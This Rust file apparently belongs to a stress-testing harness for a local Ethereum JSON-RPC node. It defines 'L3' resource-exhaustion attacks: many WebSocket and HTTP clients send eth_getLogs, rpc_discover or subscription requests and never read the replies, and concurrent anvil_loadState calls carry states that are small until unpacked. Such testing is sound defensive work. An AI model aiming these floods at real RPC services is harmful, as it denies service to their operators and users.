//! L3: what clients are owed and do not take, and what they make the server unpack.

use alloy_primitives::Bytes;
use serde_json::{Value, json};

use super::histories::{logs, mine};
use crate::{
    attack::{Attack, HISTORY, SET},
    finding::Finding,
    stage::Stage,
    states,
    wire::{Failure, Socket, batch, request},
};

pub(super) const ATTACKS: &[Attack] = &[
    Attack::new("L3", "WebSocket, unread logs", "200 unread eth_getLogs on one socket", |stage| {
        logs(stage)?;
        unread_socket(stage, 1, 200, request("eth_getLogs", json!([{ "fromBlock": "0x0" }])))
    }),
    Attack::new("L3", "WebSockets, unread logs", "20 unread eth_getLogs on each of 20", |stage| {
        logs(stage)?;
        unread_socket(stage, 20, 20, request("eth_getLogs", json!([{ "fromBlock": "0x0" }])))
    })
    .long(),
    Attack::new("L3", "WebSockets, unread documents", "64 rpc_discover on each of 100", |stage| {
        unread_socket(stage, 100, 64, request("rpc_discover", json!([])))
    })
    .long(),
    Attack::new("L3", "HTTP, unread logs", "100 clients that read no answer", |stage| {
        logs(stage)?;
        unread(stage, 100, request("eth_getLogs", json!([{ "fromBlock": "0x0" }])))
    })
    .long(),
    Attack::new("L3", "HTTP, unread batches", "40 unread batches of 100 eth_getLogs", |stage| {
        logs(stage)?;
        unread(stage, 40, batch("eth_getLogs", vec![json!([{ "fromBlock": "0x0" }]); 100]))
    }),
    Attack::new(
        "L3",
        "HTTP, unread documents",
        "300 unread batches of 100 rpc_discover",
        |stage| unread(stage, 300, batch("rpc_discover", vec![json!([]); 100])),
    )
    .long(),
    Attack::new("L3", "anvil_loadState", "8 states of 510 KB, 200,000 words each", |stage| {
        let words = stage.scaled(200_000, 100_000);
        load(stage, &states::words(words, "11")?)
    })
    .own(SET),
    Attack::new("L3", "anvil_loadState, refused", "the same, with a mistake at the end", |stage| {
        load(stage, &states::words(600_000, "zz")?)
    })
    .long(),
    Attack::new(
        "L3",
        "anvil_loadState, code",
        "8 states of 240 KB, 120 MiB of code each",
        |stage| load(stage, &states::code(120)?),
    )
    .own(SET)
    .long(),
    Attack::new(
        "L3",
        "subscriptions, unread",
        "100 sockets with 10 unread subscriptions",
        |stage| {
            stage.begin()?;
            let mut sockets = Vec::new();
            for _ in 0..100 {
                let mut socket = Socket::open(stage.chains[0])?;
                for _ in 0..10 {
                    socket.send(&request("eth_subscribe", json!(["newHeads"])))?;
                }
                sockets.push(socket);
            }
            let mut port = stage.first()?;
            while !stage.is_over() {
                let mined = mine(&mut port, 500);
                stage.tally.count(&mined);
                mined?;
            }
            drop(sockets);
            Ok(stage.finding())
        },
    )
    .own(HISTORY),
    Attack::new(
        "L3",
        "subscriptions to logs, unread",
        "20 sockets, blocks of 40,000 logs",
        |stage| {
            stage.begin()?;
            let mut sockets = Vec::new();
            for _ in 0..20 {
                let mut socket = Socket::open(stage.chains[0])?;
                socket.send(&request("eth_subscribe", json!(["logs", {}])))?;
                sockets.push(socket);
            }
            logs(stage)?;
            stage.wait();
            drop(sockets);
            Ok(stage.finding())
        },
    )
    .own(HISTORY)
    .long(),
];

/// Sends a request as often by each of some sockets, and reads nothing.
fn unread_socket(
    stage: &mut Stage,
    sockets: usize,
    requests: usize,
    body: Vec<u8>,
) -> Result<Finding, Failure> {
    stage.besiege(sockets, move |stage, _| {
        let mut socket = Socket::open(stage.chains[0])?;
        for _ in 0..requests {
            socket.send(&body)?;
            stage.tally.sent(1);
        }
        stage.wait();
        Ok(())
    })
}

/// Sends a request by each of some clients, and reads nothing.
fn unread(stage: &mut Stage, clients: usize, body: Vec<u8>) -> Result<Finding, Failure> {
    stage.besiege(clients, move |stage, _| {
        let mut client = stage.first()?;
        client.post(&body)?;
        stage.tally.sent(1);
        stage.wait();
        Ok(())
    })
}

/// Loads states that are small until they are unpacked, at the same time.
fn load(stage: &mut Stage, state: &Bytes) -> Result<Finding, Failure> {
    let length = state.len();
    let body = request("anvil_loadState", json!([state]));
    let mut finding = stage.besiege(8, move |stage, _| {
        let mut client = stage.first()?;
        client.post(&body)?;
        let answer: Value = serde_json::from_slice(&client.read()?)?;
        match answer["error"]["message"].as_str() {
            None => Ok(()),
            Some(message) => {
                Err(Failure::Rpc { code: -32000, message: message.chars().take(80).collect() })
            }
        }
    })?;
    finding.text += &format!("; {} KiB each", length / 1024);
    Ok(finding)
}
